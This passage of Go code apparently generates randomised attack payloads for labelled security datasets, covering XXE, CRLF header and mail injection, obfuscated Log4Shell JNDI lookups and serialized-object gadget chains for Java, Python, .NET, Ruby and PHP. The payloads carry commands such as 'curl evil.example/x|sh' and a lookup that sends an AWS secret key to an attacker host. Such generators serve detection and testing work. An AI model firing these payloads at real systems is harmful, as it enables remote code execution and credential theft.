		decl + `<!DOCTYPE ` + root + ` [<!ELEMENT ` + root + ` ANY><!ENTITY xxe SYSTEM "` + f + `">]><` + root + `>&xxe;</` + root + `>`,
		decl + `<!DOCTYPE ` + root + ` PUBLIC "-//X//Y" "http://evil.example/p.dtd"><` + root + `>1</` + root + `>`,
	}
	return atk{value: pick(r, docs), doc: true, param: pick(r, []string{"xml", "data", "payload", "doc", "request", "SAMLResponse"})}
}

func genCRLF(r *rand.Rand) atk {
	// names, hosts and values vary, so the same injection shape comes in
	// many concrete requests
	user := pick(r, []string{"user", "jdoe", "alice", "m.mueller", "support", "billing", "noreply", "info"})
	dom := pick(r, []string{"example.com", "example.org", "example.net", "mail.example.com"})
	evil := pick(r, []string{"evil.example", "attacker.example", "x.oast.example", "203.0.113.7"})
	victim := pick(r, []string{"victim", "victims", "list", "all", "staff", "x"}) + "@" + pick(r, []string{"example.net", "evil.example", "example.org"})
	ck := pick(r, []string{"admin", "sessionid", "role", "sid", "is_admin", "auth", "PHPSESSID"})
	cv := randAlnum(r, 1+r.IntN(12))
	hdr := pick(r, []string{"X-Injected", "X-Debug", "X-Test", "X-Custom", "X-Cache-Key"})
	page := pick(r, []string{"/home", "/", "/account", "/redirect", "/login", "/en/"})
	tmpls := []string{
		page + "\r\nSet-Cookie: " + ck + "=" + cv, pick(r, []string{"en", "de", "fr-FR", "ja"}) + "\r\n" + hdr + ": " + cv,
		"x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
		user + "@" + dom + "\r\nBcc: " + victim, user + "@" + dom + "\nCc: a@" + evil + "\nSubject: " + pick(r, []string{"hi", "invoice", "urgent", "re: your order"}),
		user + "@" + dom + "\r\n\r\nRCPT TO:<" + victim + ">\r\nDATA\r\nSubject: spam\r\n\r\nbuy now\r\n.\r\n",
		"test\r\nLocation: http://" + evil + "/", page + "\r\n\r\n<html><body>defaced</body></html>", user + "@" + dom + ">\r\nRCPT TO:<" + victim + ">\r\nDATA",
		"Hello\r\nBcc: " + victim + "\r\nContent-Type: text/html", "news\r\nSet-Cookie: " + ck + "=" + cv + "; Path=/", "x\nMAIL FROM:<spoof@bank.example>\nRCPT TO:<" + victim + ">",
		user + "@" + dom + "%0ACc:" + victim, "value\r\nAccess-Control-Allow-Origin: *", page + "\r\nRefresh: 0; url=http://" + evil + "/",
		"subject line\r\nTo: " + victim, "x\r\nX-Forwarded-For: 127.0.0.1", "foo\r\n\r\nQUIT\r\n", "a\rSet-Cookie: " + ck + "=" + cv,
		page + "\r\nX-XSS-Protection: 0\r\n\r\n<svg onload=alert(1)>", user + "\r\nReply-To: " + victim,
	}
	v := pick(r, tmpls)
	v = strings.ReplaceAll(v, "%0A", "\n")
	a := atk{value: v, param: pick(r, []string{"redirect", "next", "lang", "email", "subject", "from", "return", "url", "name", "to", "reply_to", "locale"})}
	if r.IntN(8) == 0 {
		// U+560A U+560D: some stacks cut them to \n and \r (header-writing bugs)
		a.value, a.obf = strings.ReplaceAll(strings.ReplaceAll(a.value, "\r", "\u560d"), "\n", "\u560a"), "unicode_crlf"
	}
	return a
}

func genJNDI(r *rand.Rand) atk {
	proto := pick(r, []string{"ldap", "rmi", "dns", "ldaps", "iiop", "nis", "nds", "corba", "http"})
	host := pick(r, []string{"evil.example:1389/a", "203.0.113.9/Exploit", "x.oast.example/x", "attacker.example/o=tomcat", "${hostName}.evil.example/a", "${env:AWS_SECRET_ACCESS_KEY}.evil.example/s"})
	v := "${jndi:" + proto + "://" + host + "}"
	a := atk{param: pick(r, []string{"q", "user", "name", "search", "x", "token", "version", "lang"})}
	switch r.IntN(10) {
	case 0:
		v, a.obf = "${${lower:j}ndi:"+proto+"://"+host+"}", "nesting"
	case 1:
		v, a.obf = "${${::-j}${::-n}${::-d}${::-i}:"+proto+"://"+host+"}", "nesting"
	case 2:
		v, a.obf = "${${env:NaN:-j}ndi${env:NaN:-:}"+proto+"://"+host+"}", "nesting"
	case 3:
		v, a.obf = "${j${k8s:k5:-ND}i:"+proto+"://"+host+"}", "nesting"
	case 4:
		v, a.obf = "${${upper:j}${upper:n}${lower:d}i:"+proto+"://"+host+"}", "nesting"
	case 5:
		v, a.obf = "${jnd${sys:SYS_NAME:-i}:"+proto+"://"+host+"}", "nesting"
	case 6:
		v, a.obf = "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:"+proto+"://"+host+"}", "nesting"
	case 7:
		v, a.obf = "${"+randomCase("jndi", r)+":"+proto+"://"+host+"}", "case"
	case 8:
		v, a.obf = "${jndi:${lower:l}${lower:d}a${lower:p}://"+host+"}", "nesting"
	}
	a.value = v
	return a
}

func genDeser(r *rand.Rand) atk {
	cmd := pick(r, []string{"id", "touch /tmp/pwned", "curl evil.example/x|sh", "calc.exe", "nslookup x.evil.example", "wget http://203.0.113.7/a -O /tmp/a"})
	a := atk{param: pick(r, []string{"session", "state", "data", "viewstate", "rememberMe", "obj", "payload", "token", "prefs", "cart"})}
	switch r.IntN(12) {
	case 0, 1, 2:
		a.raw = javaSerialized(r, cmd)
	case 3:
		a.raw = pythonPickle(r, cmd)
	case 4:
		a.raw = dotnetBinaryFormatter(r, cmd)
	case 5:
		a.raw = rubyMarshal(r, cmd)
	case 6:
		cls := pick(r, []string{"Example1", "Monolog\\Handler\\SyslogUdpHandler", "Illuminate\\Broadcasting\\PendingBroadcast", "GuzzleHttp\\Cookie\\FileCookieJar", "Logger"})
		a.value = fmt.Sprintf(`O:%d:"%s":2:{s:9:"cachefile";s:%d:"%s";s:4:"data";s:%d:"<?php system('%s'); ?>";}`, len(cls), cls, len("/var/www/html/x.php"), "/var/www/html/x.php", len("<?php system(''); ?>")+len(cmd), cmd)
		if r.IntN(2) == 0 {
			a.value = `a:1:{i:0;` + a.value + `}`
		}
	case 7:
		a.value = `{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example:1389/Exploit","autoCommit":true}`
		if r.IntN(2) == 0 {
			a.value = `["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"rmi://203.0.113.9:1099/Exploit","autoCommit":true}]`
		}
	case 8:
		a.value = `{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c ` + cmd + `"]},"ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}`
	case 9:
		a.value = pick(r, []string{`!!python/object/apply:os.system ["` + cmd + `"]`, `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]`,
			"--- !ruby/object:Gem::Installer\ni: x\n", `!!python/object/new:subprocess.check_output [["` + cmd + `"]]`})
	case 10:
		a.value = `{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('` + cmd + `')}()"}`
	default:
		a.value = `<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>` + cmd + `</string></void></array><void method="start"/></object></java>`
	}
	return a
}

// Serialized-object byte streams. They follow each format's grammar far
// enough that a deserializer would instantiate the named gadget classes.

func javaUTF(s string) []byte {
	b := binary.BigEndian.AppendUint16(nil, uint16(len(s)))
	return append(b, s...)
}

func javaSerialized(r *rand.Rand, cmd string) []byte {
	chains := [][]string{
		{"java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator", "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl"},
		{"sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap", "org.apache.commons.collections.functors.ChainedTransformer", "org.apache.commons.collections.functors.InvokerTransformer"},
		{"java.util.HashSet", "org.apache.commons.collections.keyvalue.TiedMapEntry", "org.apache.commons.collections.functors.InvokerTransformer"},
		{"javax.management.BadAttributeValueExpException", "org.apache.commons.collections4.keyvalue.TiedMapEntry", "org.apache.commons.collections4.functors.InvokerTransformer"},
		{"java.util.HashMap", "java.net.URL"},
	}
	chain := pick(r, chains)
	b := []byte{0xac, 0xed, 0x00, 0x05}
	for i, cls := range chain {
		b = append(b, 0x73, 0x72) // TC_OBJECT TC_CLASSDESC
		b = append(b, javaUTF(cls)...)
		b = binary.BigEndian.AppendUint64(b, r.Uint64())
		b = append(b, 0x02, 0x00, 0x01, 'L')
		b = append(b, javaUTF(pick(r, []string{"comparator", "factory", "iTransformers", "map", "key", "val"}))...)
		b = append(b, 0x74)
		b = append(b, javaUTF("Ljava/lang/Object;")...)
		b = append(b, 0x78) // TC_ENDBLOCKDATA
		if i == len(chain)-1 {
			b = append(b, 0x70) // no superclass
		}
	}
	b = append(b, 0x74)
	b = append(b, javaUTF("getRuntime")...)
	b = append(b, 0x74)
	b = append(b, javaUTF("exec")...)
	b = append(b, 0x74)
	b = append(b, javaUTF(cmd)...)
	return append(b, 0x78)
}

func pythonPickle(r *rand.Rand, cmd string) []byte {
	if r.IntN(2) == 0 {
		return []byte("cos\nsystem\n(S'" + cmd + "'\ntR.")
	}
	b := []byte{0x80, 0x04, 0x95}
	body := []byte{0x8c, 0x05}
	body = append(body, "posix"...)
	body = append(body, 0x94, 0x8c, 0x06)
	body = append(body, "system"...)
	body = append(body, 0x94, 0x93, 0x94, 0x8c, byte(len(cmd)))
	body = append(body, cmd...)
	body = append(body, 0x94, 0x85, 0x94, 0x52, 0x94, 0x2e)
	b = binary.LittleEndian.AppendUint64(b, uint64(len(body)))
	return append(b, body...)
}

func dotnetBinaryFormatter(r *rand.Rand, cmd string) []byte {
	b := []byte{0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c, 0x02, 0x00, 0x00, 0x00}
	asm := "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
	b = append(b, byte(len(asm)))
	b = append(b, asm...)
	b = append(b, 0x05, 0x01, 0x00, 0x00, 0x00)
	cls := pick(r, []string{"System.Windows.Data.ObjectDataProvider", "System.Security.Claims.ClaimsIdentity", "System.Diagnostics.Process", "System.Windows.Forms.AxHost+State"})
	b = append(b, byte(len(cls)))
	b = append(b, cls...)
	b = append(b, 0x01, 0x00, 0x00, 0x00)
	arg := "/c " + cmd
	b = append(b, byte(len("cmd")))
	b = append(b, "cmd"...)
	b = append(b, byte(len(arg)))
	b = append(b, arg...)
	return append(b, 0x0b)
}

func rubyMarshal(r *rand.Rand, cmd string) []byte {
	b := []byte{0x04, 0x08, 'o', ':'}
	cls := pick(r, []string{"Gem::Requirement", "Gem::Installer", "Gem::StubSpecification", "ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy"})
	b = append(b, byte(len(cls)+5))
	b = append(b, cls...)
	b = append(b, 0x06, ':', byte(len("@loaded_from")+5))
	b = append(b, "@loaded_from"...)
	v := "|" + cmd + " 1>&2"
	b = append(b, '"', byte(len(v)+5))
	return append(b, v...)
}

// classGens maps every class to its generator.
var classGens = map[string]func(*rand.Rand) atk{
	"sqli": genSQLi, "xss": genXSS, "shell": genShell, "traversal": genTraversal, "ssti": genSSTI, "ssrf": genSSRF,
	"ldap": genLDAP, "nosql": genNoSQL, "xxe": genXXE, "crlf": genCRLF, "jndi": genJNDI, "deserialization": genDeser,
}

var classes = []string{"sqli", "xss", "shell", "traversal", "ssti", "ssrf", "ldap", "nosql", "xxe", "crlf", "jndi", "deserialization"}
